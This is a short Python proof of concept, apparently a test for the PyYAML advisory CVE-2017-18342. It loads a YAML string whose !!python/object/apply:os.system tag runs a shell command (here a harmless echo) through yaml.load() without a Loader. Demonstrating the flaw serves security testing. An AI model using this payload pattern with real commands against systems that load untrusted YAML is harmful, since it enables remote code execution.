"""PYSEC-2018-49 / CVE-2017-18342: in PyYAML before 5.1, yaml.load() without a Loader constructs
arbitrary Python objects, so loading an untrusted document runs code. 5.1 loads with
FullLoader by default, which refuses python/object/apply."""

import yaml

document = '!!python/object/apply:os.system ["echo CODE EXECUTED BY yaml.load"]'
yaml.load(document)
